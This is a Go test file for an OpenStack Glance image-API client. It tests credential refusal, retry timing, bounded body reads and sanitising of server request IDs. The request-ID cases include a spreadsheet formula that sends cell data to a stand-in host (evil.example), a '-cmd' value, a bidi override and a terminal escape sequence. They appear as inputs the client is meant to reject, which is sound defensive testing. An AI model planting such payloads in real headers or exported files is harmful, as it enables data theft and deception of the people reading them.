package imageapi

import (
	"context"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"imsrevoke/batch"
)

// locked are Credentials that refuse to go on a request.
type locked struct{ keys }

func (*locked) Authorize(*http.Request) (uint64, error) {
	return 0, errors.New("refuse to send credentials elsewhere")
}

func TestARequestThatMayNotBeAuthorisedIsNotSent(t *testing.T) {
	t.Parallel()
	c := newClient(t, "http://glance.example", &locked{}, roundTripper(func(*http.Request) (*http.Response, error) {
		t.Error("the request was sent")
		return nil, io.EOF
	}))
	_, a := c.Members(t.Context(), image, "")
	for _, got := range []batch.Answer{c.Remove(t.Context(), pair), a} {
		if got.Meaning != batch.Refused || got.Message != "nothing was sent: refuse to send credentials elsewhere" {
			t.Errorf("got %+v", got)
		}
	}
}

func TestAnAnswerCarriesRetryAfter(t *testing.T) {
	t.Parallel()
	c := newClient(t, "http://glance.example", &keys{}, says(plain("503 Service Unavailable", "text/plain", "", "Retry-After: 7")))
	if got := c.Remove(t.Context(), pair); got.RetryAfter != 7*time.Second {
		t.Errorf("Retry-After %v; want 7s", got.RetryAfter)
	}
}

func TestARequestEndsWithItsContext(t *testing.T) {
	t.Parallel()
	type key struct{}
	ctx := context.WithValue(t.Context(), key{}, true)
	c := newClient(t, "http://glance.example", &keys{}, roundTripper(func(req *http.Request) (*http.Response, error) {
		if req.Context().Value(key{}) == nil {
			t.Error("the request has another context than it was given")
		}
		return nil, io.EOF
	}))
	c.Remove(ctx, pair)
}

// body is one without an end that counts what is read of it.
type body struct {
	read   int
	closed bool
}

func (b *body) Read(p []byte) (int, error) {
	b.read += len(p)
	return copy(p, strings.Repeat(" ", len(p))), nil
}
func (b *body) Close() error { b.closed = true; return nil }

func TestBodiesAreReadWithinABoundAndClosed(t *testing.T) {
	t.Parallel()
	for _, status := range []int{200, 204, 302, 404, 500} {
		b := &body{}
		rt := roundTripper(func(req *http.Request) (*http.Response, error) {
			return &http.Response{StatusCode: status, Header: http.Header{}, Body: b, Request: req}, nil
		})
		c := newClient(t, "http://glance.example", &keys{}, rt)
		c.Remove(t.Context(), pair)
		// Of an answer whose body is not read for its text, something has to be
		// drained, so that a short body gives the connection back.
		if b.read == 0 || b.read > 3*maxErrorBody || !b.closed {
			t.Errorf("%d to a DELETE: %d bytes read, closed: %v", status, b.read, b.closed)
		}
		*b = body{}
		_, a := c.Members(t.Context(), image, "")
		if b.read > maxList+3*maxErrorBody || !b.closed {
			t.Errorf("%d to a GET: %d bytes read, closed: %v", status, b.read, b.closed)
		}
		if status == 200 && !strings.Contains(a.Message, "longer than") {
			t.Errorf("message %q; want the list's length in it", a.Message)
		}
	}
}

func TestTheAnswersToAReadJudgeTheCredentialToo(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, response    string
		accepted, renewed int
		meaning           batch.Meaning
	}{
		{"a list", plain("200 OK", "application/json", `{"members": []}`), 1, 0, batch.Listed},
		{"no such image", glance("404 Not Found", "Image "+image+" not found."), 1, 0, batch.NoSuchImage},
		{"an expired token", glance("401 Unauthorized", "expired"), 0, 1, batch.Renewed},
		{"trouble", plain("500 Oops", "text/plain", ""), 0, 0, batch.Broken},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			k := &keys{}
			_, a := newClient(t, "http://glance.example", k, says(tt.response)).Members(t.Context(), image, "")
			if a.Meaning != tt.meaning || k.accepted != tt.accepted || k.renewed != tt.renewed {
				t.Errorf("meaning %d, accepted %d, renewed %d; want %d, %d, %d", a.Meaning, k.accepted, k.renewed, tt.meaning, tt.accepted, tt.renewed)
			}
		})
	}
}

func TestAListOfTheImageInTheOtherLetterCaseIsItsList(t *testing.T) {
	t.Parallel()
	response := plain("200 OK", "application/json", `{"members": [{"member_id": "a", "image_id": "`+strings.ToUpper(image)+`"}]}`)
	if got, a := newClient(t, "http://glance.example", &keys{}, says(response)).Members(t.Context(), image, ""); a.Meaning != batch.Listed || len(got.Members) != 1 {
		t.Errorf("got %+v, %+v", got, a)
	}
}

func TestIDsOfAnyLetterCaseAreRecognisedInAnAnswer(t *testing.T) {
	t.Parallel()
	loud := batch.Pair{ImageID: strings.ToUpper(image), MemberID: strings.ToUpper(member)}
	for text, want := range map[string]batch.Meaning{
		member + " not found in the member list of the image " + image + ".": batch.NotAMember,
		"Image " + image + " not found.":                                     batch.NoSuchImage,
	} {
		if got := newClient(t, "http://glance.example", &keys{}, says(glance("404 Not Found", text))).Remove(t.Context(), loud); got.Meaning != want {
			t.Errorf("%q means %d; want %d", text, got.Meaning, want)
		}
	}
}

func TestTheServersRequestIDIsTakenOverIfItIsOne(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, header, want string // empty: our own
	}{
		{"Glance's", "X-Openstack-Request-Id: req-1", "req-1"},
		{"a gateway's", "X-Request-Id: 8080", "8080"},
		{"Glance's before a gateway's", "X-Request-Id: 8080\r\nX-Openstack-Request-Id: req-1", "req-1"},
		{"one that is too long", "X-Request-Id: " + strings.Repeat("x", 65), ""},
		{"one that cannot be printed", "X-Request-Id: a\x80b", ""},
		{"every character of one", "X-Request-Id: req-1:A_z.9", "req-1:A_z.9"},
		{"a formula", "X-Openstack-Request-Id: =HYPERLINK(\"http://evil.example/?\"&B2,\"open\")", ""},
		{"a formula with a minus", "X-Openstack-Request-Id: -cmd", ""},
		{"a formula before an id", "X-Request-Id: 8080\r\nX-Openstack-Request-Id: @x", "8080"},
		{"some words", "X-Request-Id: a b", ""},
		{"an override", "X-Request-Id: a\u202eb", ""},
		{"a command of a terminal", "X-Request-Id: a\x1b[2J", ""},
		{"the token", "X-Request-Id: " + token, ""},
		{"an address and a number", "X-Request-Id: 10.0.0.1:80-a_B.7", "10.0.0.1:80-a_B.7"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var own string
			rt := says(plain("204 No Content", "text/plain", "", tt.header))
			got := newClient(t, "http://glance.example", &keys{}, roundTripper(func(req *http.Request) (*http.Response, error) {
				own = req.Header.Get(requestIDHeader)
				return rt(req)
			})).Remove(t.Context(), pair)
			if want := tt.want; got.RequestID != want && (want != "" || got.RequestID != own) {
				t.Errorf("request id %q; want %q", got.RequestID, want)
			}
			if len(own) != len("req-")+36 || own[len("req-")+14] != '4' {
				t.Errorf("our own request id is %q; want a version 4 UUID", own)
			}
		})
	}
}
